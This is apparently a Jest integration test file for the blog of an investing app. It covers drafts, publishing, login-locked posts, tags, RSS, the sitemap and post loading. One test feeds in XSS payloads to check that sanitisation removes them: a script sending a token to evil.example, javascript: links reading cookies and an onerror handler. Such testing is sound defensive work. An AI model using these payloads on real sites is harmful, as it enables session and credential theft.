import { randomBytes } from 'node:crypto';
import { execFile } from 'node:child_process';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { promisify } from 'node:util';
import type { NestFastifyApplication } from '@nestjs/platform-fastify';
import { BLOG_LOGIN_PROMPT, type BlogAdminPost, type SessionRecord, sessionKey } from '@nivesh/proto';
import { parseConfig, startService } from '@nivesh/platform';
import type { FastifyInstance } from 'fastify';
import Redis from 'ioredis';
import { Client } from 'pg';
import { createGatewayApp } from '../../../gateway/src/app';
import { makeWebDist, mintToken, testConfig } from '../../../gateway/test/test-app';
import { AppModule } from '../src/app.module';
import { ConfigSchema } from '../src/config';

const DATABASE_URL = process.env.DATABASE_URL ?? 'postgres://postgres@127.0.0.1:5432/nivesh';
const REDIS_URL = process.env.REDIS_URL ?? 'redis://127.0.0.1:6379';
const PUBLIC_URL = 'https://nivesh.example.in';
const LOAD_POSTS = path.resolve(__dirname, '../dist/cli/load-posts.js');

/** A post that tries every trick: a script, a javascript: link, an image with onerror, a data: image, raw HTML. */
const HOSTILE = [
  'Read this <script>fetch("https://evil.example/?t=" + localStorage.token)</script> first.',
  '',
  '[Claim your prize](javascript:alert(document.cookie)) or [this](JAVASCRIPT:alert(1)) or <a href="javascript:alert(2)">raw</a>.',
  '',
  '<img src=x onerror="alert(3)"> ![pixel](data:image/png;base64,iVBORw0KGgo=) ![chart](https://img.example.in/rsi.png)',
  '',
  '[NSE](https://www.nseindia.com) is safe.',
].join('\n');

type Element = { name: string; attributes: Record<string, string> };

/** The opening tags of sanitised HTML with their attributes (sanitize-html always quotes attribute values). */
const tagsOf = (html: string): Element[] =>
  [...html.matchAll(/<([a-zA-Z][a-zA-Z0-9]*)((?:\s+[^\s=>/]+(?:="[^"]*")?)*)\s*\/?>/g)].map((match) => ({
    name: match[1]!.toLowerCase(),
    attributes: Object.fromEntries([...match[2]!.matchAll(/\s([^\s=>/]+)(?:="([^"]*)")?/g)].map((attribute) => [attribute[1]!.toLowerCase(), attribute[2] ?? ''])),
  }));

describe('the blog through the gateway (content service and gateway on real PostgreSQL and Redis)', () => {
  const prefix = `blog-${randomBytes(4).toString('hex')}`;
  const redis = new Redis(REDIS_URL);
  const pg = new Client({ connectionString: DATABASE_URL });
  let content: Awaited<ReturnType<typeof startService>>['app'];
  let gateway: NestFastifyApplication;
  let http: FastifyInstance;
  const config = testConfig({ REDIS_PREFIX: prefix, REDIS_URL, DATABASE_URL, WEB_DIST_DIR: makeWebDist(), PUBLIC_URL });
  const created: string[] = [];

  /** A live session as services/auth would store it, and its bearer token. */
  const login = async (username: string, is_admin: boolean): Promise<Record<string, string>> => {
    const sid = `s-${randomBytes(6).toString('hex')}`;
    const now = Date.now();
    const record: SessionRecord = { user_id: `u-${username}`, username, is_admin, is_premium: false, created_at: new Date(now).toISOString(), expires_at: new Date(now + 3_600_000).toISOString() };
    await redis.set(sessionKey(prefix, sid), JSON.stringify(record), 'EX', 3_600);
    return { authorization: `Bearer ${await mintToken({ sub: record.user_id, sid }, { secret: config.JWT_SECRET })}` };
  };
  let clients = 0;
  const get = (url: string, headers: Record<string, string> = {}) => http.inject({ method: 'GET', url, headers, remoteAddress: `10.9.0.${++clients % 250}` });
  const post = (url: string, payload: object, headers: Record<string, string> = {}) => http.inject({ method: 'POST', url, payload, headers, remoteAddress: `10.9.1.${++clients % 250}` });

  beforeAll(async () => {
    await pg.connect();
    const serviceConfig = parseConfig(ConfigSchema, { DATABASE_URL, REDIS_URL, REDIS_PREFIX: prefix, LOG_LEVEL: 'error' });
    ({ app: content } = await startService({ service: 'content', module: AppModule.register(serviceConfig), config: serviceConfig, handleSignals: false }));
    gateway = await createGatewayApp(config);
    http = gateway.getHttpAdapter().getInstance() as unknown as FastifyInstance;
  });

  afterAll(async () => {
    // The run's database is shared with the other suites and the end-to-end stack, which loads the blog's own posts
    // into an empty table: what this suite wrote goes.
    if (created.length) await pg.query('DELETE FROM content.posts WHERE id = ANY($1)', [created]);
    await gateway?.close();
    await content?.close();
    const keys = await redis.keys(`${prefix}:*`);
    if (keys.length) await redis.del(...keys);
    await redis.quit();
    await pg.end();
  });

  it('an admin writes a draft no reader sees; published, a visitor gets the excerpt locked and a logged-in reader the whole post', async () => {
    const admin = await login('priya', true);
    const reader = await login('asha', false);
    const title = `Reading RSI ${randomBytes(3).toString('hex')}`;

    const draft = await post('/api/blog/admin/posts', { title, markdown: 'The **Relative Strength Index** compares gains with losses.\n\nThe rest of the post.', tags: ['RSI', 'Technical analysis'] }, admin);
    expect(draft.statusCode).toBe(200);
    const saved = draft.json<BlogAdminPost>();
    created.push(saved.id);
    expect(saved).toMatchObject({ status: 'draft', author: 'priya', published_at: null, tags: ['RSI', 'Technical analysis'], excerpt: 'The Relative Strength Index compares gains with losses. The rest of the post.' });
    expect(saved.slug).toMatch(/^reading-rsi-[0-9a-f]{6}$/);

    // A draft: not listed, not readable, not in the feed.
    expect((await get('/api/blog/posts', reader)).json().posts.map((p: { slug: string }) => p.slug)).not.toContain(saved.slug);
    const hidden = await get(`/api/blog/post?slug=${saved.slug}`, reader);
    expect(hidden.statusCode).toBe(404);
    expect(hidden.json()).toMatchObject({ detail: 'There is no published post at this address.' });
    expect((await get('/api/blog/admin/posts', admin)).json().posts.map((p: { id: string }) => p.id)).toContain(saved.id);

    // Only admins write.
    expect((await post('/api/blog/admin/posts/publish', { id: saved.id }, reader)).statusCode).toBe(403);
    expect((await post('/api/blog/admin/posts/publish', { id: saved.id })).statusCode).toBe(401);

    const published = await post('/api/blog/admin/posts/publish', { id: saved.id }, admin);
    expect(published.json()).toMatchObject({ status: 'published', published_at: expect.any(String) });

    const list = (await get('/api/blog/posts')).json();
    expect(list.locked).toBe(true);
    expect(list.posts.find((p: { slug: string }) => p.slug === saved.slug)).toMatchObject({ title, excerpt: saved.excerpt, reading_minutes: 1 });

    const visitor = await get(`/api/blog/post?slug=${saved.slug}`);
    expect(visitor.statusCode).toBe(200);
    expect(visitor.json()).toMatchObject({ locked: true, html: null, prompt: BLOG_LOGIN_PROMPT, excerpt: saved.excerpt });

    const whole = (await get(`/api/blog/post?slug=${saved.slug}`, reader)).json();
    expect(whole).toMatchObject({ locked: false, prompt: null, html: '<p>The <strong>Relative Strength Index</strong> compares gains with losses.</p>\n<p>The rest of the post.</p>\n' });

    // Taken back: gone from readers again, with its first date kept for when it returns.
    const back = (await post('/api/blog/admin/posts/unpublish', { id: saved.id }, admin)).json();
    expect(back).toMatchObject({ status: 'draft', published_at: published.json().published_at });
    expect((await get(`/api/blog/post?slug=${saved.slug}`, reader)).statusCode).toBe(404);
  });

  it('lists the topics of the published posts with how many carry each, spelt as the newest post spells them, drafts left out', async () => {
    const admin = await login('priya', true);
    const run = randomBytes(3).toString('hex');
    const topic = `Momentum ${run}`;
    const write = async (title: string, tags: string[], publish: boolean) => {
      const saved = (await post('/api/blog/admin/posts', { title: `${title} ${run}`, markdown: 'Text.', tags }, admin)).json<BlogAdminPost>();
      created.push(saved.id);
      if (publish) expect((await post('/api/blog/admin/posts/publish', { id: saved.id }, admin)).statusCode).toBe(200);
    };
    await write('RSI', [topic.toLowerCase(), `RSI ${run}`], true);
    await write('MACD', [topic], true);
    await write('Draft', [`Unreleased ${run}`], false);

    const answer = await get('/api/blog/tags');
    expect(answer.statusCode).toBe(200);
    const ours = answer.json<{ tags: { tag: string; posts: number }[] }>().tags.filter(({ tag }) => tag.endsWith(run));
    expect(ours).toEqual([
      { tag: topic, posts: 2 },
      { tag: `RSI ${run}`, posts: 1 },
    ]);
  });

  it('stores and serves a hostile post harmless: no script, no javascript: link, no handler, no data: image', async () => {
    const admin = await login('priya', true);
    const reader = await login('asha', false);
    const preview = (await post('/api/blog/admin/preview', { markdown: HOSTILE }, admin)).json();
    const saved = (await post('/api/blog/admin/posts', { title: `Hostile ${randomBytes(3).toString('hex')}`, markdown: HOSTILE }, admin)).json<BlogAdminPost>();
    created.push(saved.id);
    await post('/api/blog/admin/posts/publish', { id: saved.id }, admin);
    const { html } = (await get(`/api/blog/post?slug=${saved.slug}`, reader)).json<{ html: string }>();
    const { rows } = await pg.query<{ html: string }>('SELECT html FROM content.posts WHERE id = $1', [saved.id]);

    // The preview shows exactly what is stored and served.
    expect(preview.html).toBe(html);
    expect(rows[0]!.html).toBe(html);
    // Text is escaped (a '<' in text is '&lt;'), so every '<' left opens a real element: read those.
    const elements = tagsOf(html);
    expect(new Set(elements.map((element) => element.name))).toEqual(new Set(['p', 'a', 'img']));
    for (const { attributes } of elements) {
      expect(Object.keys(attributes).filter((name) => name.startsWith('on'))).toEqual([]);
      if (attributes.href !== undefined) expect(attributes.href).toMatch(/^https:\/\//);
      if (attributes.src !== undefined) expect(attributes.src).toMatch(/^https:\/\//);
    }
    // What was written as markup shows as text.
    expect(html).toContain('&lt;script&gt;');
    expect(html).toContain('&lt;img src=x onerror="alert(3)"&gt;');
    expect(html).toContain('<img src="https://img.example.in/rsi.png" alt="chart" loading="lazy" />');
    expect(html).toContain('<a href="https://www.nseindia.com" rel="nofollow noopener noreferrer">NSE</a>');
  });

  it('writes the RSS feed and the sitemap of the published posts at PUBLIC_URL', async () => {
    const admin = await login('priya', true);
    const saved = (await post('/api/blog/admin/posts', { title: 'What P/E & "growth" hide', markdown: 'A low P/E can hide a falling business.', tags: ['Valuation'], excerpt: 'Why a cheap-looking P/E <is> not always cheap.' }, admin)).json<BlogAdminPost>();
    created.push(saved.id);
    const draftOnly = (await post('/api/blog/admin/posts', { title: 'Unfinished draft', markdown: 'Not yet.' }, admin)).json<BlogAdminPost>();
    created.push(draftOnly.id);
    await post('/api/blog/admin/posts/publish', { id: saved.id }, admin);

    const rss = await get('/blog/rss.xml');
    expect(rss.statusCode).toBe(200);
    expect(rss.headers['content-type']).toBe('application/rss+xml; charset=utf-8');
    expect(rss.body).toContain(`<link>${PUBLIC_URL}/blog/${saved.slug}</link>`);
    expect(rss.body).toContain('<title>What P/E &amp; &quot;growth&quot; hide</title>');
    expect(rss.body).toContain('<description>Why a cheap-looking P/E &lt;is&gt; not always cheap.</description>');
    expect(rss.body).not.toContain(draftOnly.slug);

    const sitemap = await get('/sitemap.xml');
    expect(sitemap.statusCode).toBe(200);
    expect(sitemap.body).toContain(`<loc>${PUBLIC_URL}/blog/${saved.slug}</loc>`);
    expect(sitemap.body).toContain(`<loc>${PUBLIC_URL}/ai-news</loc>`);
    expect(sitemap.body).not.toContain(draftOnly.slug);
  });

  it('refuses a slug another post has, in words', async () => {
    const admin = await login('priya', true);
    const first = (await post('/api/blog/admin/posts', { title: 'Slug owner', markdown: 'x', slug: `taken-${prefix}` }, admin)).json<BlogAdminPost>();
    created.push(first.id);
    const second = await post('/api/blog/admin/posts', { title: 'Slug thief', markdown: 'x', slug: `taken-${prefix}` }, admin);
    expect(second.statusCode).toBe(409);
    expect(second.json()).toMatchObject({ detail: `Another post already has the address /blog/taken-${prefix}; choose another.` });
  });
});

describe('loading the posts that come with Nivesh', () => {
  const pg = new Client({ connectionString: DATABASE_URL });
  const run = promisify(execFile);
  let dir: string;

  beforeAll(async () => {
    await pg.connect();
    dir = mkdtempSync(path.join(tmpdir(), 'blog-posts-'));
  });

  afterAll(async () => {
    await pg.query(`DELETE FROM content.posts WHERE slug LIKE 'loader-test-%'`);
    await pg.end();
    rmSync(dir, { recursive: true, force: true });
  });

  it("loads the repository's three posts published, and adds nothing when run again", async () => {
    const first = await run(process.execPath, [LOAD_POSTS], { env: { ...process.env, DATABASE_URL } });
    expect(first.stdout).toMatch(/^content: \d of 3 posts loaded from /);
    const { rows } = await pg.query<{ slug: string; status: string; author: string; excerpt: string; html: string }>(
      `SELECT slug, status, author, excerpt, html FROM content.posts WHERE slug IN ('reading-rsi-without-the-myths', 'what-p-e-hides', 'how-to-check-a-sebi-registration') ORDER BY slug`,
    );
    expect(rows.map((row) => [row.slug, row.status])).toEqual([
      ['how-to-check-a-sebi-registration', 'published'],
      ['reading-rsi-without-the-myths', 'published'],
      ['what-p-e-hides', 'published'],
    ]);
    for (const row of rows) {
      expect(row.excerpt.length).toBeGreaterThan(60);
      expect(row.html).not.toMatch(/<script|\son[a-z]+=/i);
    }
    const again = await run(process.execPath, [LOAD_POSTS], { env: { ...process.env, DATABASE_URL } });
    expect(again.stdout).toMatch(/^content: 0 of 3 posts loaded from .* \(3 were there already\)/);
  });

  it('keeps a post an admin changed, and loads nothing from a folder with a malformed file', async () => {
    writeFileSync(path.join(dir, 'a.md'), '---\ntitle: Loader test A\nslug: loader-test-a\nauthor: nivesh\npublished_at: 2024-04-01T09:00:00+05:30\n---\nFirst text.');
    await run(process.execPath, [LOAD_POSTS, dir], { env: { ...process.env, DATABASE_URL } });
    await pg.query(`UPDATE content.posts SET title = 'Changed by an admin' WHERE slug = 'loader-test-a'`);
    writeFileSync(path.join(dir, 'a.md'), '---\ntitle: Loader test A, new\nslug: loader-test-a\nauthor: nivesh\npublished_at: 2024-04-01T09:00:00+05:30\n---\nOther text.');
    writeFileSync(path.join(dir, 'b.md'), '---\ntitle: Loader test B\nslug: loader-test-b\npublished_at: 2024-04-01T09:00:00+05:30\n---\nNo author.');
    await expect(run(process.execPath, [LOAD_POSTS, dir], { env: { ...process.env, DATABASE_URL } })).rejects.toMatchObject({ code: 65, stderr: expect.stringContaining('b.md: author:') });
    const { rows } = await pg.query<{ slug: string; title: string }>(`SELECT slug, title FROM content.posts WHERE slug LIKE 'loader-test-%' ORDER BY slug`);
    expect(rows).toEqual([{ slug: 'loader-test-a', title: 'Changed by an admin' }]);
  });
});
